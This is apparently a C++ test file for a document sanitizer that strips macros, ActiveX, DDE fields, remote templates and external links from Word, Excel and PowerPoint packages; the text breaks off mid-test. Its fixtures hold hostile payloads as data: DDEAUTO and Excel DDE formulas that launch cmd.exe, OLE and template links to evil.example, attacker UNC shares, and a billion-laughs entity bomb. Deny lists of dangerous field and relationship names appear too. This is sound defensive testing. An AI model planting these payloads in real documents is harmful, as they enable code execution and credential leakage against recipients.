// OOXML rebuilt from generated packages: each kind of active content is removed, the package
// stays consistent (every relationship target exists, every part has a content type), and the
// result is clean on a second pass.
#include <gtest/gtest.h>

#include <algorithm>
#include <sstream>

#include "cdr/fixtures.h"

namespace sanso::cdr {
namespace {

using fixtures::kinds;
using fixtures::make_zip;
using fixtures::unzip;

const char* kTypes = R"(<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>
<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>
<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>
<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>
<Override PartName="/customUI/customUI.xml" ContentType="application/xml"/>
</Types>)";

const char* kRootRels = R"(<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility" Target="customUI/customUI.xml"/>
</Relationships>)";

const char* kDocRels = R"(<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>
<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="activeX/activeX1.xml"/>
<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>
<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.city.minamata.lg.jp/" TargetMode="External"/>
<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file://attacker/share/x.exe" TargetMode="External"/>
</Relationships>)";

const char* kSettingsRels = R"(<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/template.dotm" TargetMode="External"/>
</Relationships>)";

const char* kSettings = R"(<?xml version="1.0" encoding="UTF-8"?>
<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>)";

// A DDEAUTO field split over three runs, an INCLUDEPICTURE field, a harmless PAGE field, and
// references to the control, the OLE object and both hyperlinks.
const char* kDocument = R"(<?xml version="1.0" encoding="UTF-8"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>見積書</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\attacker\\share\\a.png&quot; \d "><w:r><w:t>図</w:t></w:r></w:fldSimple></w:p>
<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:object><w:control r:id="rId3"/></w:object></w:r><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId4"/></w:object></w:r></w:p>
<w:p><w:hyperlink r:id="rId5"><w:r><w:t>水俣市</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId6"><w:r><w:t>共有</w:t></w:r></w:hyperlink></w:p>
</w:body></w:document>)";

std::string hostile_docm() {
  return make_zip({{"[Content_Types].xml", kTypes},
                   {"_rels/.rels", kRootRels},
                   {"word/document.xml", kDocument},
                   {"word/_rels/document.xml.rels", kDocRels},
                   {"word/vbaProject.bin", std::string("\xD0\xCF\x11\xE0 VBA project", 16)},
                   {"word/vbaData.xml", "<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>"},
                   {"word/settings.xml", kSettings},
                   {"word/_rels/settings.xml.rels", kSettingsRels},
                   {"word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>"},
                   {"customUI/customUI.xml", "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" onLoad=\"AutoOpen\"/>"}});
}

TEST(CdrOoxml, RemovesEveryKindOfActiveContentAndKeepsThePackageConsistent) {
  CdrPolicy policy;
  CdrResult r = sanitize(hostile_docm(), "見積書.docm", policy);
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_EQ(r.output_name, "見積書.docx");
  auto k = kinds(r);
  for (const char* want : {"vba_macro", "activex", "custom_ui", "external_template", "external_relationship", "dde_field", "remote_field",
                           "macro_enabled_type"}) {
    EXPECT_TRUE(k.count(want)) << want;
  }
  auto parts = unzip(r.output);
  ASSERT_FALSE(parts.empty());
  EXPECT_EQ(parts.begin()->first, "[Content_Types].xml");
  for (const char* gone : {"word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml", "customUI/customUI.xml"}) EXPECT_FALSE(parts.count(gone)) << gone;
  const std::string& types = parts["[Content_Types].xml"];
  EXPECT_NE(types.find("wordprocessingml.document.main+xml"), std::string::npos);
  EXPECT_EQ(types.find("macroEnabled"), std::string::npos);
  EXPECT_EQ(types.find("activeX1.xml"), std::string::npos);
  const std::string& rels = parts["word/_rels/document.xml.rels"];
  EXPECT_EQ(rels.find("vbaProject"), std::string::npos);
  EXPECT_EQ(rels.find("mhtml:"), std::string::npos);
  EXPECT_EQ(rels.find("file://"), std::string::npos);
  EXPECT_NE(rels.find("https://www.city.minamata.lg.jp/"), std::string::npos) << "a web hyperlink is kept by default";
  EXPECT_EQ(parts["_rels/.rels"].find("customUI"), std::string::npos);
  EXPECT_FALSE(parts.count("word/_rels/settings.xml.rels")) << "its only relationship, to a remote template, is gone";
  const std::string& doc = parts["word/document.xml"];
  EXPECT_EQ(doc.find("DDE"), std::string::npos);
  EXPECT_EQ(doc.find("EAUTO"), std::string::npos);
  EXPECT_EQ(doc.find("INCLUDEPICTURE"), std::string::npos);
  EXPECT_NE(doc.find("見積書"), std::string::npos) << "the field result stays as text";
  EXPECT_NE(doc.find("PAGE"), std::string::npos) << "harmless fields stay";
  EXPECT_EQ(doc.find("r:id=\"rId3\""), std::string::npos) << "reference to the removed control";
  EXPECT_EQ(doc.find("r:id=\"rId4\""), std::string::npos) << "reference to the removed OLE link";
  EXPECT_EQ(doc.find("r:id=\"rId6\""), std::string::npos) << "reference to the removed file: link";
  EXPECT_NE(doc.find("r:id=\"rId5\""), std::string::npos);
  EXPECT_EQ(parts["word/settings.xml"].find("r:id"), std::string::npos);

  // Every remaining internal relationship points at a part that exists.
  for (const auto& [name, bytes] : parts) {
    if (name.size() < 5 || name.substr(name.size() - 5) != ".rels") continue;
    pugi::xml_document d;
    ASSERT_TRUE(d.load_buffer(bytes.data(), bytes.size())) << name;
    for (pugi::xml_node rel : d.document_element().children()) {
      if (std::string(rel.attribute("TargetMode").value()) == "External") continue;
      std::string dir = name.substr(0, name.find("_rels/"));
      std::string target = dir + rel.attribute("Target").value();
      EXPECT_TRUE(parts.count(target)) << name << " → " << target;
    }
  }
  CdrResult again = sanitize(r.output, r.output_name, policy);
  EXPECT_EQ(again.verdict, Verdict::clean) << (again.findings.empty() ? again.message : std::string(to_string(again.findings[0].kind)));
}

// The fuzz targets' second reader (package_active_content) sees the VBA project, the
// macro-enabled type, the control, the remote template, the OLE link and the DDE and
// INCLUDEPICTURE fields in the hostile package, and nothing in the rebuilt one.
TEST(CdrOoxml, TheSecondReaderFindsActiveContentInInputsAndNoneInOutputs) {
  std::string all;
  for (const auto& f : internal::package_active_content(hostile_docm())) all += f + "\n";
  for (const char* want : {"word/vbaProject.bin", "macroenabled", "relationship vbaproject", "relationship control", "external attachedtemplate",
                           "external oleobject", "field ddeauto", "field includepicture", "<OLEObject>"}) {
    EXPECT_NE(all.find(want), std::string::npos) << want << " not in\n" << all;
  }
  CdrResult r = sanitize(hostile_docm(), "a.docm", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  const auto left = internal::package_active_content(r.output);
  EXPECT_TRUE(left.empty()) << left.front();
}

TEST(CdrOoxml, HyperlinksBecomeTextWhenThePolicySaysSo) {
  CdrPolicy policy;
  policy.keep_hyperlinks = false;
  CdrResult r = sanitize(hostile_docm(), "a.docm", policy);
  ASSERT_EQ(r.verdict, Verdict::sanitized);
  auto parts = unzip(r.output);
  EXPECT_EQ(parts["word/_rels/document.xml.rels"].find("minamata"), std::string::npos);
  EXPECT_EQ(parts["word/document.xml"].find("rId5"), std::string::npos);
  EXPECT_NE(parts["word/document.xml"].find("水俣市"), std::string::npos);
  EXPECT_TRUE(kinds(r).count("hyperlink"));
}

TEST(CdrOoxml, EntityExpansionInsideAPartIsNotExpandedAndTheDtdGoes) {
  std::string laughs = "<?xml version=\"1.0\"?><!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                       "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
                       "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
                       "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]>"
                       "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>&h;</w:t></w:r></w:p></w:body></w:document>";
  std::string types = R"(<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>)";
  std::string rels = R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>)";
  CdrResult r = sanitize(make_zip({{"[Content_Types].xml", types}, {"_rels/.rels", rels}, {"word/document.xml", laughs}}), "laughs.docx", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("xml_dtd"));
  auto parts = unzip(r.output);
  EXPECT_EQ(parts["word/document.xml"].find("<!DOCTYPE"), std::string::npos);
  EXPECT_LT(parts["word/document.xml"].size(), 2000u) << "entities were expanded";
}

TEST(CdrOoxml, ExcelMacroSheetsExternalLinksAndTheirFormulasGo) {
  std::string types = R"(<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/macrosheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/><Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>)";
  std::string rels = R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>)";
  std::string wbrels = R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet2.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/connections" Target="connections.xml"/></Relationships>)";
  std::string wb = R"(<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" r:id="rId2"/></sheets><externalReferences><externalReference r:id="rId3"/></externalReferences></workbook>)";
  std::string sheet = R"(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>[1]!'cmd|''/c calc''!A0'</f><v>0</v></c><c r="B1"><f>SUM(1,2)</f><v>3</v></c></row></sheetData></worksheet>)";
  CdrResult r = sanitize(make_zip({{"[Content_Types].xml", types}, {"_rels/.rels", rels}, {"xl/workbook.xml", wb}, {"xl/_rels/workbook.xml.rels", wbrels},
                                   {"xl/worksheets/sheet1.xml", sheet}, {"xl/macrosheets/sheet2.xml", "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>"},
                                   {"xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"},
                                   {"xl/connections.xml", "<connections/>"}}),
                         "集計.xlsm", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_EQ(r.output_name, "集計.xlsx");
  auto k = kinds(r);
  for (const char* want : {"excel4_macro", "external_link", "external_formula", "data_connection", "macro_enabled_type"}) EXPECT_TRUE(k.count(want)) << want;
  auto parts = unzip(r.output);
  EXPECT_FALSE(parts.count("xl/macrosheets/sheet2.xml"));
  EXPECT_FALSE(parts.count("xl/externalLinks/externalLink1.xml"));
  EXPECT_EQ(parts["xl/worksheets/sheet1.xml"].find("cmd"), std::string::npos);
  EXPECT_NE(parts["xl/worksheets/sheet1.xml"].find("SUM(1,2)"), std::string::npos);
  EXPECT_EQ(parts["xl/workbook.xml"].find("rId2"), std::string::npos);
}

TEST(CdrOoxml, BrokenPackagesAreBlockedNotPassed) {
  CdrResult no_types = sanitize(make_zip({{"[Content_Types].xml", "<Types"}, {"word/document.xml", "<w:document/>"}}), "a.docx", {});
  EXPECT_EQ(no_types.verdict, Verdict::blocked);
  EXPECT_EQ(no_types.reason, "malformed");
  std::string truncated = hostile_docm().substr(0, 300);
  CdrResult cut = sanitize(truncated, "a.docx", {});
  EXPECT_EQ(cut.verdict, Verdict::blocked);
}

// ---------------------------------------------------------------------------------------------
// Packages built part by part, and a second reader of what comes out.

constexpr const char* kR = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
constexpr const char* kWordNs = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
constexpr const char* kRelNs = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
constexpr const char* kDrawingNs = "http://schemas.openxmlformats.org/drawingml/2006/main";

struct Rel {
  std::string id, type, target;
  bool external = false;
};

struct Package {
  std::string name;                                              // "a.docx"
  std::vector<std::pair<std::string, std::string>> overrides;    // part → content type
  std::string defaults = R"(<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="png" ContentType="image/png"/>)";
  std::map<std::string, std::vector<Rel>> rels;                  // source part ("" for the root) → relationships
  std::vector<std::pair<std::string, std::string>> parts;        // part → bytes, in zip order

  std::string& part(const std::string& n) {
    for (auto& [name, bytes] : parts) {
      if (name == n) return bytes;
    }
    parts.emplace_back(n, "");
    return parts.back().second;
  }
  std::string zip() const {
    std::string types = R"(<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">)" + defaults;
    for (const auto& [n, t] : overrides) types += "<Override PartName=\"/" + n + "\" ContentType=\"" + t + "\"/>";
    types += "</Types>";
    fixtures::Parts out{{"[Content_Types].xml", types}};
    for (const auto& [source, list] : rels) {
      std::string x = R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)";
      for (const auto& r : list) {
        x += "<Relationship Id=\"" + r.id + "\" Type=\"" + (r.type.find(':') == std::string::npos ? kR + r.type : r.type) + "\" Target=\"" + r.target + "\"" +
             (r.external ? " TargetMode=\"External\"" : "") + "/>";
      }
      x += "</Relationships>";
      auto slash = source.rfind('/');
      std::string rels_name = slash == std::string::npos ? "_rels/" + source + ".rels" : source.substr(0, slash + 1) + "_rels/" + source.substr(slash + 1) + ".rels";
      out.emplace_back(rels_name, x);
    }
    for (const auto& p : parts) out.push_back(p);
    return make_zip(out);
  }
};

// A 1×1 PNG, built here so the picture tests need no stored file.
std::string tiny_png() {
  auto be32 = [](std::string& s, unsigned long v) {
    for (int i = 3; i >= 0; --i) s.push_back(static_cast<char>((v >> (i * 8)) & 0xFF));
  };
  auto chunk = [&](std::string& out, const std::string& type, const std::string& data) {
    be32(out, data.size());
    std::string td = type + data;
    out += td;
    be32(out, crc32(0, reinterpret_cast<const Bytef*>(td.data()), static_cast<uInt>(td.size())));
  };
  std::string ihdr;
  be32(ihdr, 1);
  be32(ihdr, 1);
  ihdr += std::string("\x08\x02\x00\x00\x00", 5);
  std::string raw("\x00\xff\x00\x00", 4);
  uLongf len = compressBound(raw.size());
  std::string idat(len, '\0');
  compress(reinterpret_cast<Bytef*>(idat.data()), &len, reinterpret_cast<const Bytef*>(raw.data()), raw.size());
  idat.resize(len);
  std::string png = "\x89PNG\r\n\x1A\n";
  chunk(png, "IHDR", ihdr);
  chunk(png, "IDAT", idat);
  chunk(png, "IEND", "");
  return png;
}

const char* kWordRoot =
    R"(<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml">)";

Package word(const std::string& body) {
  Package p;
  p.name = "a.docx";
  p.overrides = {{"word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"},
                 {"word/styles.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"}};
  p.rels[""] = {{"rId1", "officeDocument", "word/document.xml"}};
  p.rels["word/document.xml"] = {{"rIdS", "styles", "styles.xml"}};
  p.part("word/document.xml") = std::string(kWordRoot) + "<w:body>" + body + "</w:body></w:document>";
  p.part("word/styles.xml") = std::string("<w:styles xmlns:w=\"") + kWordNs + "\"/>";
  return p;
}

Package sheet(const std::string& sheet_data) {
  Package p;
  p.name = "a.xlsx";
  p.overrides = {{"xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"},
                 {"xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"},
                 {"xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml"}};
  p.rels[""] = {{"rId1", "officeDocument", "xl/workbook.xml"}};
  p.rels["xl/workbook.xml"] = {{"rId1", "worksheet", "worksheets/sheet1.xml"}};
  p.rels["xl/worksheets/sheet1.xml"] = {{"rIdDr", "drawing", "../drawings/drawing1.xml"}};
  p.part("xl/workbook.xml") = R"(<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>)";
  p.part("xl/worksheets/sheet1.xml") = R"(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData>)" + sheet_data +
                                       R"(</sheetData><drawing r:id="rIdDr"/></worksheet>)";
  p.part("xl/drawings/drawing1.xml") = R"(<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><xdr:pic><xdr:blipFill><a:blip r:embed="rIdImg"/></xdr:blipFill></xdr:pic></xdr:wsDr>)";
  return p;
}

Package slides(const std::string& shapes) {
  Package p;
  p.name = "a.pptx";
  p.overrides = {{"ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"},
                 {"ppt/slides/slide1.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"}};
  p.rels[""] = {{"rId1", "officeDocument", "ppt/presentation.xml"}};
  p.rels["ppt/presentation.xml"] = {{"rId2", "slide", "slides/slide1.xml"}};
  p.part("ppt/presentation.xml") = R"(<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst></p:presentation>)";
  p.part("ppt/slides/slide1.xml") = R"(<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><p:cSld><p:spTree>)" + shapes +
                                    R"(</p:spTree></p:cSld></p:sld>)";
  return p;
}

// The three formats, each with a picture (rIdImg) referenced from `image_source`.
struct Format {
  const char* ext;
  Package (*make)();
  const char* image_source;  // the part that shows the picture
  const char* media;         // where its pictures live
};
const Format kFormats[] = {
    {"docx", [] { return word(R"(<w:p><w:r><w:drawing><a:blip r:embed="rIdImg"/></w:drawing></w:r><w:r><w:t>本文</w:t></w:r></w:p>)"); }, "word/document.xml", "word/media/"},
    {"xlsx", [] { return sheet(R"(<row r="1"><c r="A1"><v>1</v></c></row>)"); }, "xl/drawings/drawing1.xml", "xl/media/"},
    {"pptx", [] { return slides(R"(<p:pic><p:blipFill><a:blip r:embed="rIdImg"/></p:blipFill></p:pic>)"); }, "ppt/slides/slide1.xml", "ppt/media/"},
};

Package with_picture(const Format& f, const std::string& picture_bytes) {
  Package p = f.make();
  std::string source = f.image_source;
  std::string media = f.media;
  // The relationship target is relative to the source part's folder.
  std::string target = source.rfind("word/", 0) == 0 ? "media/image1.png" : "../media/image1.png";
  p.rels[source].push_back({"rIdImg", "image", target});
  p.part(media + "image1.png") = picture_bytes;
  return p;
}

std::string lower(std::string s) {
  for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return s;
}

std::string local_name(std::string_view qname) {
  auto colon = qname.find(':');
  return std::string(colon == std::string_view::npos ? qname : qname.substr(colon + 1));
}

// A URI's percent escapes decoded (OPC names parts by URI: "%E5%9B%B3" is "図").
std::string percent_decoded(const std::string& uri) {
  std::string out;
  for (std::size_t i = 0; i < uri.size(); ++i) {
    if (uri[i] == '%' && i + 2 < uri.size()) {
      out.push_back(static_cast<char>(std::stoi(uri.substr(i + 1, 2), nullptr, 16)));
      i += 2;
    } else {
      out.push_back(uri[i]);
    }
  }
  return out;
}

// A reader that is not the engine: it opens the rebuilt package, checks that every part has a
// content type, every XML part parses, every internal relationship reaches a part and no part,
// relationship, content type or element of the forbidden kinds remains — by local names and
// whatever the prefixes.
void expect_safe_package(const std::string& bytes, const std::string& label) {
  auto parts = unzip(bytes);
  ASSERT_TRUE(parts.count("[Content_Types].xml")) << label;
  pugi::xml_document types;
  ASSERT_TRUE(types.load_string(parts["[Content_Types].xml"].c_str())) << label;
  std::map<std::string, std::string> defaults, overrides;
  for (pugi::xml_node n : types.document_element().children()) {
    if (local_name(n.name()) == "Default") defaults[lower(n.attribute("Extension").value())] = lower(n.attribute("ContentType").value());
    if (local_name(n.name()) == "Override") overrides[lower(percent_decoded(n.attribute("PartName").value()))] = lower(n.attribute("ContentType").value());
  }
  std::set<std::string> names;
  for (const auto& [name, data] : parts) names.insert(lower(name));
  for (const auto& [name, data] : parts) {
    if (name == "[Content_Types].xml") continue;
    std::string ct = overrides.count("/" + lower(name)) ? overrides["/" + lower(name)] : defaults[lower(name.substr(name.rfind('.') + 1))];
    EXPECT_FALSE(ct.empty()) << label << ": " << name << " has no content type";
    for (const char* bad : {"macroenabled", "vbaproject", "oleobject", "activex", "vbadata"}) EXPECT_EQ(ct.find(bad), std::string::npos) << label << ": " << name << " " << ct;
    EXPECT_EQ(lower(name).find(".bin"), std::string::npos) << label << ": " << name;
    const bool xml = ct.size() >= 3 && (ct.substr(ct.size() - 3) == "xml" || ct.find("vml") != std::string::npos);
    if (!xml) continue;
    pugi::xml_document d;
    ASSERT_TRUE(d.load_buffer(data.data(), data.size())) << label << ": " << name << " is not well-formed";
    for (pugi::xpath_node xn : d.select_nodes("//*")) {
      pugi::xml_node e = xn.node();
      std::string ln = local_name(e.name());
      for (const char* bad : {"OLEObject", "oleObj", "altChunk", "attachedTemplate", "mailMerge", "control", "subDoc"}) EXPECT_NE(ln, bad) << label << ": " << name;
      std::string instr = ln == "instrText" ? e.text().get() : "";
      for (pugi::xml_attribute a : e.attributes()) {
        if (local_name(a.name()) == "instr") instr = a.value();
        if (local_name(a.name()) == "action") {
          EXPECT_EQ(lower(a.value()).find("ppaction://program"), std::string::npos) << label;
        }
      }
      std::istringstream words(lower(instr));
      std::string first;
      words >> first;
      for (const char* bad : {"dde", "ddeauto", "includetext", "includepicture", "include", "import", "link", "macrobutton"}) EXPECT_NE(first, bad) << label << ": " << name;
      for (const char* bad : {"file:", "\\\\", "search-ms"}) EXPECT_EQ(lower(instr).find(bad), std::string::npos) << label << ": " << name << " field " << instr;
    }
    if (name.size() > 5 && name.substr(name.size() - 5) == ".rels") {
      std::string dir = name.substr(0, name.find("_rels/"));
      for (pugi::xml_node r : d.document_element().children()) {
        std::string type = r.attribute("Type").value();
        std::string last = lower(type.substr(type.rfind('/') + 1));
        for (const char* bad : {"vbaproject", "oleobject", "attachedtemplate", "afchunk", "control", "webextension", "webextensiontaskpanes", "mailmergesource",
                                "externallink", "connections", "package", "font", "extensibility", "xlmacrosheet"}) {
          EXPECT_NE(last, bad) << label << ": " << name;
        }
        std::string target = r.attribute("Target").value();
        if (std::string(r.attribute("TargetMode").value()) == "External") {
          EXPECT_EQ(last, "hyperlink") << label << ": " << name;
          std::string t = lower(target);
          EXPECT_TRUE(t.rfind("http://", 0) == 0 || t.rfind("https://", 0) == 0 || t.rfind("mailto:", 0) == 0) << label << ": " << target;
          continue;
        }
        std::string decoded = percent_decoded(target);
        std::vector<std::string> segs;
        std::stringstream ss(decoded[0] == '/' ? decoded.substr(1) : dir + decoded);
        for (std::string s; std::getline(ss, s, '/');) {
          if (s == "..") {
            if (!segs.empty()) segs.pop_back();
          } else if (!s.empty() && s != ".") {
            segs.push_back(s);
          }
        }
        std::string resolved;
        for (const auto& s : segs) resolved += (resolved.empty() ? "" : "/") + s;
        EXPECT_TRUE(names.count(lower(resolved))) << label << ": " << name << " → " << target;
      }
    }
  }
}

// #14: an XML part whose bytes are not XML (here a BitTorrent file) is not passed, in any format.
TEST(CdrOoxmlParts, XmlPartsThatAreNotXmlBlockTheFile) {
  const std::string torrent = "d8:announce35:udp://tracker.example:80/announce4:infod6:lengthi1024e4:name5:x.exe12:piece lengthi16384e6:pieces20:"
                              "\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13\x14" "ee";
  for (const auto& [part, make] : std::vector<std::pair<std::string, Package (*)()>>{
           {"word/document.xml", [] { return word("<w:p/>"); }},
           {"word/styles.xml", [] { return word("<w:p/>"); }},
           {"xl/worksheets/sheet1.xml", [] { return sheet(""); }},
           {"ppt/slides/slide1.xml", [] { return slides(""); }}}) {
    Package p = make();
    p.part(part) = torrent;
    CdrResult r = sanitize(p.zip(), p.name, {});
    EXPECT_EQ(r.verdict, Verdict::blocked) << part;
    EXPECT_EQ(r.reason, "malformed") << part;
    EXPECT_NE(r.message.find(part), std::string::npos) << r.message;
  }
}

// #14: well-formed XML that is not the part its content type says (an HTML page as the document,
// a slide that is a workbook) is not passed either.
TEST(CdrOoxmlParts, XmlPartsOfTheWrongKindBlockTheFile) {
  Package doc = word("");
  doc.part("word/document.xml") = "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><script>alert(1)</script></body></html>";
  CdrResult r = sanitize(doc.zip(), doc.name, {});
  EXPECT_EQ(r.verdict, Verdict::blocked);
  EXPECT_EQ(r.reason, "malformed");
  Package deck = slides("");
